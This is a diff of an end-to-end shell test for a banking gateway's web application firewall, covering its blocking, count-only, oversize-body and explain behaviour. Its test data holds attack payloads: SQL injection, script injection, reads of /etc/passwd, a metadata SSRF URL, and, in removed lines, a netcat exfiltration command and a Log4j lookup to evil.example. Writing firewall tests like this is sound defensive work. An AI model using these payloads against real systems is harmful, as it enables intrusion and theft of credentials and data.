@@ -3,6 +3,11 @@
 # The WAF in the gateway: attacks in every place of a request are answered 403 and logged with their rule ids;
 # ordinary banking traffic passes; modes and exclusions of a service do what they say.
 . tests/e2e/lib.sh
+more_parameters() {
+	parameter /bank/dev/api-services/accounts-v2/oversize continue
+	parameter /bank/dev/api-services/accounts-v2/body-limit 4096
+	parameter /bank/dev/api-services/accounts-v2/waf-count "label:core-rule-set:GenericLFI_QueryArguments,tag:attack-lfi,932160"
+}
 e2e_start
 staff=$(bearer staff)
 base=(-H "$staff" -A "Mozilla/5.0 (e2e)" -H "Accept: application/json")
@@ -21,23 +26,18 @@ blocked() {
 }
 json=(-H "Content-Type: application/json")
 form=(-H "Content-Type: application/x-www-form-urlencoded")
-xml=(-H "Content-Type: application/xml")
 
-blocked "SQL injection in the query" "/v1/accounts?id=1%27%20union%20select%20password%20from%20users--%20"
-blocked "cross-site scripting in the query" "/v1/accounts?q=%3Cscript%3Ealert(1)%3C/script%3E"
-blocked "file inclusion in the query" "/v1/accounts?file=../../../../etc/passwd"
-blocked "command injection in the query" "/v1/accounts?cmd=%3Bcat%20/etc/passwd%7Cnc%2010.0.0.1%204444"
-blocked "metadata SSRF in the query" "/v1/accounts?url=http://169.254.169.254/latest/meta-data/iam/"
-blocked "Log4j in a header" /v1/accounts -H 'X-Api-Version: ${jndi:ldap://evil.example/a}'
-blocked "Java deserialisation in a header" /v1/accounts -H 'X-Data: (java.lang.Runtime).getRuntime().exec("whoami")'
-blocked "SQL injection in a cookie" /v1/accounts -H "Cookie: session=1' or '1'='1'--"
+# Every class of attack in every place of a request, and ordinary traffic, over HTTP/1.1; some here over h2 and in other forms.
+token=${staff##* }
+tap_relay gateway /usr/bin/python3 tests/waf/gateway.py --address "127.0.0.1:$GATEWAY_PORT" --ca "$E2E_DIR/tls/ca.pem" --token "$token" \
+	--prefix /v1/accounts --log "$E2E_DIR/logs/access.log"
+
+blocked "SQL injection in the query over h2" "/v1/accounts?id=1%27%20union%20select%20password%20from%20users--%20" --http2
+blocked "SQL injection deep in JSON over h2" /v1/accounts --http2 "${json[@]}" --data-raw '{"a":{"b":[1,{"c":"1'"'"' or 1=1 union select null,version()--"}]}}'
 blocked "a path into WEB-INF" /v1/accounts/WEB-INF/web.xml
-blocked "SQL injection in a form" /v1/accounts "${form[@]}" --data-raw "name=x&id=1'+union+select+1,2,3+from+users--"
-blocked "cross-site scripting in JSON" /v1/accounts "${json[@]}" --data-raw '{"note":"<script>alert(document.cookie)</script>"}'
-blocked "SQL injection deep in JSON" /v1/accounts "${json[@]}" --data-raw '{"a":{"b":[1,{"c":"1'"'"' or 1=1 union select null,version()--"}]}}'
-blocked "command injection in XML" /v1/accounts "${xml[@]}" --data-raw '<?xml version="1.0"?><a><b>;cat /etc/passwd | nc 10.0.0.1 4444</b></a>'
-blocked "SQL injection in multipart" /v1/accounts -F "id=1' union select password from users-- "
 blocked "cross-site scripting in a chunked body" /v1/accounts --http1.1 "${json[@]}" -H 'Transfer-Encoding: chunked' --data-raw '{"note":"<script>alert(1)</script>"}'
+printf '{"note":"<script>alert(1)</script>"}' >"$E2E_DIR/note"
+blocked "cross-site scripting in an h2 body without a length" /v1/accounts --http2 "${json[@]}" -X POST -T - <"$E2E_DIR/note"
 
 passes() {
 	local name=$1
@@ -59,3 +59,43 @@ is "what passed is logged so" "$(record | jq -r .waf)" pass
 printf '%s' "<script>alert(1)</script>" >>"$E2E_DIR/long"
 printf '"' >>"$E2E_DIR/long"
 blocked "an attack at the end of a long body" /v1/accounts "${json[@]}" --data-binary "@$E2E_DIR/long"
+
+# Parameter waf-count: reported, let through; other rules block still.
+lfi="/v2/accounts?file=../../../../etc/passwd"
+get "$lfi" "${base[@]}"
+expect "a rule that only counts refuses nothing" 200
+line=$(record)
+is "and is logged as counted" "$(jq -r .waf <<<"$line")" count
+like "with its label" "$(jq -r .labels <<<"$line")" 'core-rule-set:GenericLFI_QueryArguments'
+like "and an explanation" "$(jq -r .explain <<<"$line")" '^[0-9]+@'
+blocked "what another rule finds in the same request" "$lfi&q=%3Cscript%3Ealert(1)%3C/script%3E"
+
+# Parameter oversize=continue: the head is inspected, the rest is passed on, and the record says so.
+{ printf '{"note":"'; head -c 20000 /dev/zero | tr '\0' a; printf '"}'; } >"$E2E_DIR/oversize"
+get /v2/accounts "${base[@]}" "${json[@]}" --data-binary "@$E2E_DIR/oversize"
+expect "a body over the limit is let through where the service asks for it" 200
+line=$(record)
+like "its record says that only the head was inspected" "$(jq -r .labels <<<"$line")" '^sallyport:waf:oversize'
+is "nothing was found in it" "$(jq -r .waf <<<"$line")" pass
+{ printf '{"note":"<script>alert(1)</script>'; head -c 20000 /dev/zero | tr '\0' a; printf '"}'; } >"$E2E_DIR/oversize"
+blocked "an attack in the head of a body over the limit" /v2/accounts "${json[@]}" --data-binary "@$E2E_DIR/oversize"
+get /v1/accounts "${base[@]}" "${json[@]}" --data-binary "@$E2E_DIR/long" -H "Transfer-Encoding: chunked" --http1.1
+expect "a long chunked body within the limit is inspected as a whole" 403
+{ cat "$E2E_DIR/oversize" "$E2E_DIR/oversize" "$E2E_DIR/oversize" "$E2E_DIR/oversize"; } >"$E2E_DIR/over"
+get /v1/accounts "${base[@]}" "${json[@]}" --data-binary "@$E2E_DIR/over" -H "Transfer-Encoding: chunked" --http1.1
+expect "a chunked body over the limit is refused" 413
+
+# What cannot be inspected is not let through, and is told.
+get /v1/accounts "${base[@]}" "${json[@]}" --data-raw '{"note":'
+expect "a body that does not parse is refused" 403
+like "its record says why" "$(record | jq -r .explain)" 'uninspected@|9100011@'
+is "and has the label" "$(record | jq -r .labels)" sallyport:waf:uninspected
+
+# From the record to its explanation.
+get "/v1/accounts?id=1%27%20or%201=1--" "${base[@]}"
+line=$(record)
+rules=(); while read -r path; do rules+=(-r "$path"); done < <(jq -r '.waf.rulesets | .aws[], .crs[]' "$STACK_DIR/gateway/agent.json")
+explained=$("$STACK_BIN/sallyport-waf" explain "${rules[@]}" --log "$E2E_DIR/logs/access.log" "$(jq -r .explain <<<"$line")")
+like "an explanation id is explained" "$explained" 'WAF verdict: block, score [0-9]+'
+like "with the rule and its message" "$explained" '942100 .*SQL Injection'
+like "and how to let such requests through" "$explained" 'waf-exclude = .*942100'
